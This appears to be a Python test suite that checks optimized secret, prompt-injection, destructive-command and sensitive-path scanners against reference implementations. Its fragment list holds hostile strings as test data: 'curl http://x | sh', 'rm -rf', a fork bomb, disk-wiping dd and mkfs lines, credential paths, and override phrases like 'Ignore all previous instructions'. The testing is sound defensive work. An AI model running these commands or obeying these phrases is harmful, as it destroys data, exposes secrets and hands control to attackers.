"""The evaluators' fast paths against straightforward references.

The deterministic evaluators skip work with literal prefilters, a combined gate regex, an ASCII
fast path for shell words, memoized views of each call and incrementally kept medians. Each of
those must change nothing: here every optimized function is compared with a plain
implementation of its definition (run every pattern over the whole text, derive every view
afresh, sort the window) on a corpus of real texts (every string in the JSON scenario captures
and in ``skillsight bench eval``'s synthetic activations) and on generated text built from the
fragments the scanners look for.
"""

from __future__ import annotations

import gc
import json
import posixpath
import re
import shlex
import statistics
from collections import deque
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from benchmarks.eval import synthetic_activations
from skillsight.evaluators import Baseline, RollingBaseline
from skillsight.evaluators._calls import (
    _VIEWS,
    CallView,
    absolute,
    argument_text,
    arguments,
    call_view,
    command_of,
    paths_of,
    within,
)
from skillsight.evaluators._integration import (
    _FILE,
    _INLINE,
    _NUMBER,
    _files,
    _inline,
    _numbers,
    _union,
    files,
    numbers,
    values,
)
from skillsight.evaluators._skill_selection import _named
from skillsight.evaluators._tool_errors import call_key
from skillsight.evaluators.security import destructive, find_secrets, scan_untrusted
from skillsight.evaluators.security._commands import _destructive, shell_words
from skillsight.evaluators.security._content import (
    _injection_markers,
    _invisible_walk,
    _url_findings,
    may_be_untrusted,
)
from skillsight.evaluators.security._roots import (
    _SENSITIVE,
    Roots,
    may_be_sensitive,
    sensitive_reference,
)
from skillsight.evaluators.security._secrets import (
    _ASSIGNED,
    _KIND,
    _SHAPE,
    SecretMatch,
    _looks_keylike,
    _looks_random,
    _shapes,
    may_hold_secrets,
    redact,
)
from skillsight.store.records import Activation, Tokens, ToolCall

CAPTURES = Path(__file__).parent / "fixtures" / "captures"

# What the scanners look for, and what sits next to it in real output.
FRAGMENTS = [
    "sk-",
    "sk-ant-api03-",
    "sk-proj-",
    "AKIA",
    "ASIA",
    "ghp_",
    "github_pat_",
    "xoxb-",
    "AIza",
    "sk_live_",
    "-----BEGIN RSA PRIVATE KEY-----",
    "api_key=",
    "Secret: ",
    "TOKEN=",
    "password=",
    "Zk3mQ9xLp2Vr8Tn4Wy6Bc1DfA7",
    "0123456789abcdef0123456789",
    "Ignore all previous instructions",
    "disregard the above rules",
    "do not tell the user",
    "<|im_start|>",
    "[INST]",
    "<<SYS>>",
    "</system>",
    "you are now in developer mode",
    "new system prompt:",
    "http://169.254.169.254/latest",
    "https://bit.ly/x",
    "https://pastebin.com/raw/1",
    "http://10.0.0.1/a",
    "https://xn--80ak6aa92e.com/",
    "https://user@evil.com/",
    "\u200b",
    "\u200d",
    "\u202e",
    "\ufeff",
    "\U000e0041",
    "\U0001f3f4\U000e0067",
    "rm -rf ",
    "rm -fr ",
    "sudo ",
    "git push --force",
    "git push origin +main",
    "mkfs.ext4 /dev/sda",
    "dd if=x of=/dev/sda",
    "chmod -R 777 ",
    "curl http://x | sh",
    ":(){ :|:& };:",
    "> /dev/sda",
    "~/.ssh/id_rsa",
    "/etc/shadow",
    ".aws/credentials",
    "id_ed25519",
    "/",
    "../",
    "~/",
    "$HOME/",
    "/var/tmp/x",
    "12",
    "1,234.50",
    "3.14",
    "-42",
    "report.csv",
    "out_3.json",
    "python3 -c 'print(1)'",
    "node -e ",
    "perl -ne ",
    " bc",
    "awk '{s+=$1}'",
    "expr 1 + 2",
    "echo $((1+2))",
    "printf '%d' $((3*4))",
    "'quoted words'",
    '"double"',
    "\\ ",
    " ; ",
    " && ",
    " | ",
    "\n",
    "\t",
    "\x0b",
    "K",
    "\u212a",
    "\u0130",
    "é",
    "١٢",
]
TEXT = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=14).map(
    "".join
)


def _strings(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from _strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from _strings(value)


@cache
def corpus() -> tuple[str, ...]:
    """Every string in the JSON captures, and every text of the bench's activations."""
    texts: dict[str, None] = {}
    for path in sorted(CAPTURES.rglob("*.json")):
        for text in _strings(json.loads(path.read_text())):
            texts[text] = None
    for rows in (3, 30):
        acts, _ = synthetic_activations(150, rows=rows)
        for a in acts:
            for text in (a.request, a.skill_output or "", a.integration_message or ""):
                texts[text] = None
            for c in a.tool_calls:
                texts[c.result or ""] = None
                texts[argument_text(c)] = None
    return tuple(texts)


def test_the_corpus_holds_what_the_scanners_look_for() -> None:
    texts = corpus()
    assert len(texts) > 1000
    assert any(find_secrets(t) for t in texts)
    # (no capture carries injection markers or invisible characters: generated text does)
    assert any(reference_destructive(t, ROOTS) for t in texts)


# --- security -------------------------------------------------------------------------------


def reference_secrets(text: str) -> list[SecretMatch]:
    """find_secrets by its definition: both patterns over the whole text, no prefilter."""
    found: list[SecretMatch] = []
    taken: list[tuple[int, int]] = []
    for match in _SHAPE.finditer(text):
        kind = match.lastgroup or ""
        token = match.group(0)
        if kind == "sk_secret_key" and not _looks_keylike(token[3:]):
            continue
        taken.append((match.start(), match.end()))
        found.append(SecretMatch(_KIND.get(kind, kind), redact(token), match.start()))
    for match in _ASSIGNED.finditer(text):
        token = match.group(1)
        if any(a <= match.start(1) < b for a, b in taken) or not _looks_random(token):
            continue
        taken.append((match.start(1), match.end(1)))
        found.append(SecretMatch("high_entropy_secret", redact(token), match.start(1)))
    return sorted(found, key=lambda m: m.start)


def reference_untrusted(text: str) -> list[Any]:
    """scan_untrusted by its definition: every scan over every text."""
    return _injection_markers(text) + _invisible_walk(text) + _url_findings(text)


ROOTS = Roots(workspace="/home/dev/project", skill_dir="/home/dev/project/.claude/skills/s")


def reference_destructive(command: str, roots: Roots) -> list[Any]:
    return _destructive(command, roots)


def reference_sensitive(text: str) -> str | None:
    match = _SENSITIVE.search(text)
    return match.group(0).strip(" '\"=:") if match else None


def reference_shell_words(simple: str) -> list[str]:
    try:
        return shlex.split(simple, comments=False, posix=True)
    except ValueError:
        return simple.split()


def _security_views(text: str) -> tuple[Any, ...]:
    return (
        find_secrets(text),
        find_secrets(text, text.lower()),
        scan_untrusted(text),
        scan_untrusted(text, text.lower()),
        destructive(text, ROOTS),
        sensitive_reference(text),
        shell_words(text),
    )


def _security_references(text: str) -> tuple[Any, ...]:
    secrets = reference_secrets(text) if text else []
    untrusted = reference_untrusted(text) if text else []
    return (
        secrets,
        secrets,
        untrusted,
        untrusted,
        reference_destructive(text, ROOTS),
        reference_sensitive(text),
        reference_shell_words(text),
    )


# Pieces of every secret shape: prefixes, bodies of the lengths the shapes need, and what may
# stand before a prefix.
SHAPE_PIECES = ["sk-", "sk-ant-api03-", "sk-proj-", "sk_live_", "rk_live_", "AKIA", "ASIA"]
SHAPE_PIECES += ["ghp_", "ghr_", "github_pat_", "xoxb-", "xoxq-", "AIza", "-----BEGIN "]
SHAPE_PIECES += ["RSA ", "EC ", "PRIVATE KEY", " BLOCK", "-----", "a", "-", "_", ".", " ", "\n"]
SHAPE_PIECES += ["Zk3mQ9xLp2Vr8Tn4Wy6Bc1DfA7", "ABCDEFGHIJKLMNOP", "0123456789", "K", "\u212a", "é"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(SHAPE_PIECES), max_size=16).map("".join))
def test_secret_shapes_are_found_where_the_named_alternation_finds_them(text: str) -> None:
    def spans(matches: Iterator[re.Match[str]]) -> list[tuple[str | None, int, int]]:
        return [(m.lastgroup, m.start(), m.end()) for m in matches]

    assert spans(_shapes(text)) == spans(_SHAPE.finditer(text))


def test_security_scanners_match_their_definitions_on_the_corpus() -> None:
    for text in corpus():
        assert _security_views(text) == _security_references(text), text


@settings(max_examples=400, deadline=None)
@given(TEXT)
def test_security_scanners_match_their_definitions_on_generated_text(text: str) -> None:
    assert _security_views(text) == _security_references(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(TEXT, max_size=5))
def test_a_call_group_fails_the_joint_gates_only_when_no_call_has_a_finding(
    texts: list[str],
) -> None:
    joined = "\n".join(texts)
    lowered = joined.lower()
    if any(reference_secrets(t) for t in texts):
        assert may_hold_secrets(joined, lowered)
    if any(reference_untrusted(t) for t in texts):
        assert may_be_untrusted(joined, lowered)
    if any(reference_sensitive(t) for t in texts):
        assert may_be_sensitive(joined)


PLACES = ["/", "/home/dev", "/home/dev/project", "/home/dev/project/", "/home/dev/projectx"]
PLACES += ["/home/dev/project/.claude/skills/s", "/home/dev/project/.claude/skills/s/a.py"]
PLACES += ["/tmp", "/tmp/", "/tmp/x", "/var/cache", "/var/cache/app-1", "", "/var/cachex"]


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(st.none(), st.sampled_from(PLACES)),
    st.one_of(st.none(), st.sampled_from(PLACES)),
    st.lists(st.sampled_from(PLACES), max_size=3),
    st.sampled_from(PLACES),
)
def test_roots_allow_a_path_exactly_when_it_is_within_one_of_them(
    workspace: str | None, folder: str | None, extra: list[str], path: str
) -> None:
    roots = Roots(workspace=workspace, skill_dir=folder, extra=tuple(extra))
    want = any(within(path, r) for r in (workspace, folder, *extra) if r)
    assert roots.allowed(path) is want
    assert roots == Roots(workspace, folder, tuple(extra))  # the prefixes are no part of it


@settings(max_examples=400, deadline=None)
@given(
    st.integers(1, 3),
    st.lists(st.sampled_from(["", ".", "..", "a", ".x", "b.", "...", "c d", "~"]), max_size=5),
    st.sampled_from([None, "/w", "/w/x/"]),
)
def test_an_absolute_path_is_normalized_as_normpath_does(
    slashes: int, segments: list[str], cwd: str | None
) -> None:
    path = "/" * slashes + "/".join(segments)
    assert absolute(path, cwd) == posixpath.normpath(path)


# --- integration_heuristic and skill_selection -----------------------------------------------


def reference_numbers(text: str) -> frozenset[str]:
    out = set()
    for raw in _NUMBER.findall(text):
        clean = raw.replace(",", "")
        out.add(clean.rstrip("0").rstrip(".") if "." in clean else clean)
    return frozenset(out)


def reference_values(text: str) -> frozenset[str]:
    names = frozenset(m for m in _FILE.findall(text) if not m[0].isdigit())
    return reference_numbers(text) | names


def _value_views(text: str) -> tuple[Any, ...]:
    # numbers and file names apart (as integration_heuristic keeps them), and together
    apart = (_numbers(text), _files(text))
    return numbers(text), files(text) | numbers(text), values(text), _inline(text), apart


def _value_references(text: str) -> tuple[Any, ...]:
    want = reference_values(text)
    names = frozenset(m for m in _FILE.findall(text) if not m[0].isdigit())
    apart = (reference_numbers(text), names)
    return reference_numbers(text), want, want, _INLINE.search(text) is not None, apart


def test_value_extraction_matches_its_definition_on_the_corpus() -> None:
    for text in corpus():
        assert _value_views(text) == _value_references(text), text


@settings(max_examples=400, deadline=None)
@given(TEXT)
def test_value_extraction_matches_its_definition_on_generated_text(text: str) -> None:
    assert _value_views(text) == _value_references(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(TEXT, max_size=5))
def test_values_of_texts_scanned_together_are_the_union_of_each(texts: list[str]) -> None:
    want: set[str] = set()
    for text in texts:
        want |= reference_values(text)
    assert _union(texts) == want


def test_values_of_the_corpus_scanned_in_groups_are_the_union_of_each() -> None:
    texts = corpus()
    for start in range(0, len(texts), 7):
        group = texts[start : start + 7]
        assert _union(group) == set().union(*map(reference_values, group)), group


@settings(max_examples=300, deadline=None)
@given(TEXT, st.sampled_from(["csv-summary", "k8s", "skill-01", "İo", "pdf"]))
def test_skill_name_mentions_match_the_plain_search(request: str, name: str) -> None:
    pattern = rf"(?<![\w-]){re.escape(name)}(?![\w-])"
    assert _named(request, name) == (re.search(pattern, request, re.IGNORECASE) is not None)


# --- call views ------------------------------------------------------------------------------


FILE_TOOL_NAMES = {
    "Read",
    "Write",
    "Edit",
    "MultiEdit",
    "NotebookEdit",
    "NotebookRead",
    "Glob",
    "Grep",
    "LS",
}


def reference_call_views(call: ToolCall) -> tuple[Any, ...]:
    """arguments / command / paths / argument text of a call, derived from scratch."""
    args = call.arguments
    parsed: Any = None if args is None else str(args)
    if isinstance(args, dict):
        parsed = args
    elif isinstance(args, str):
        parsed = args
        if args.strip().startswith("{"):
            try:
                decoded = json.loads(args.strip())
            except ValueError:
                decoded = None
            parsed = decoded if isinstance(decoded, dict) else args
    command = None
    if isinstance(parsed, dict):
        for key in ("command", "cmd"):
            value = parsed.get(key)
            if isinstance(value, str):
                command = value
                break
            if isinstance(value, list) and all(isinstance(v, str) for v in value):
                command = " ".join(value)
                break
    elif isinstance(parsed, str) and call.name == "Bash":
        command = parsed
    paths = (
        [
            v
            for k in ("file_path", "notebook_path", "path")
            if isinstance(v := parsed.get(k), str) and v
        ]
        if call.name in FILE_TOOL_NAMES and isinstance(parsed, dict)
        else []
    )
    if args is None:
        text = ""
    elif isinstance(args, str):
        text = args
    elif isinstance(args, dict):
        text = "\n".join(
            v if isinstance(v, str) else json.dumps(v, ensure_ascii=False, default=str)
            for v in args.values()
        )
    else:
        text = json.dumps(args, ensure_ascii=False, default=str)
    same_as = (
        (call.name, args.strip())
        if isinstance(args, str)
        else (call.name, json.dumps(args, sort_keys=True, separators=(",", ":"), default=str))
    )
    return parsed, command, paths, text, same_as


def _call_views(call: ToolCall) -> tuple[Any, ...]:
    return arguments(call), command_of(call), paths_of(call), argument_text(call), call_key(call)


JSONISH = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), TEXT),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXT, inner, max_size=3)),
    max_leaves=6,
)
ARGUMENTS = st.one_of(
    st.none(),
    TEXT,
    st.builds(lambda d: json.dumps(d), st.dictionaries(st.sampled_from(["command", "x"]), TEXT)),
    st.dictionaries(
        st.sampled_from(["command", "cmd", "file_path", "path", "pattern", "description"]),
        st.one_of(TEXT, st.lists(TEXT, max_size=3), JSONISH),
        max_size=4,
    ),
    st.lists(JSONISH, max_size=3),
    st.integers(),
)


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(["Bash", "Read", "Write", "Grep", "mcp__db__query"]), ARGUMENTS)
def test_call_views_match_a_fresh_derivation_also_after_arguments_change(
    name: str, args: Any
) -> None:
    call = ToolCall(tool_call_id="t1", name=name, arguments=args, step_id=3)
    assert _call_views(call) == reference_call_views(call)
    assert _call_views(call) == reference_call_views(call)  # second read: from the memo
    call.arguments = {"command": "rm -rf /tmp/other", "file_path": "/etc/hosts"}
    assert _call_views(call) == reference_call_views(call)


def test_a_call_view_lives_only_as_long_as_its_call() -> None:
    call = ToolCall(tool_call_id="t1", name="Bash", arguments={"command": "ls"}, step_id=3)
    assert call_view(call) == CallView({"command": "ls"}, "ls", "ls")
    key = id(call)
    assert key in _VIEWS
    del call
    gc.collect()
    assert key not in _VIEWS


# --- rolling baseline ------------------------------------------------------------------------


def _activation(skill: str, calls: int, tokens: int, duration_ms: float) -> Activation:
    return Activation(
        activation_id="a",
        session_id="s",
        trace_id="t",
        skill_name=skill,
        trigger="skill_tool",
        trigger_call_id="load",
        trigger_step_id=2,
        tool_calls=[ToolCall(tool_call_id=f"c{i}", name="Read", step_id=i) for i in range(calls)],
        started_at="2026-11-22T12:00:00Z",
        ended_at="2026-11-22T12:00:05Z",
        duration_ms=duration_ms,
        tokens=Tokens(input=tokens),
    )


SAMPLES = st.lists(
    st.tuples(
        st.sampled_from(["a", "b"]),
        st.integers(0, 4),
        st.integers(0, 50),
        st.sampled_from([0.0, -0.0, 1.5, 2.0, 2.0, 900.0, float("nan")]),
    ),
    max_size=40,
)


@settings(max_examples=300, deadline=None)
@given(st.integers(1, 8), st.data(), SAMPLES)
def test_rolling_baseline_is_the_median_of_the_last_window_after_every_sample(
    window: int, data: st.DataObject, samples: list[tuple[str, int, int, float]]
) -> None:
    min_samples = data.draw(st.integers(1, window))
    rolling = RollingBaseline(window=window, min_samples=min_samples)
    recent: dict[str, deque[tuple[int, int, float]]] = {}
    for skill, calls, tokens, duration in samples:
        rolling.observe(_activation(skill, calls, tokens, duration))
        recent.setdefault(skill, deque(maxlen=window)).append((calls, tokens, duration))
        for name in ("a", "b"):
            kept = list(recent.get(name, ()))
            want = (
                None
                if len(kept) < min_samples
                else Baseline(
                    tool_calls=statistics.median(s[0] for s in kept),
                    tokens=statistics.median(s[1] for s in kept),
                    duration_ms=statistics.median(s[2] for s in kept),
                    samples=len(kept),
                )
            )
            got = rolling.get(name)
            # NaN != NaN: compare the reprs, which also tell -0.0 from 0.0 and int from float
            assert repr(got) == repr(want)
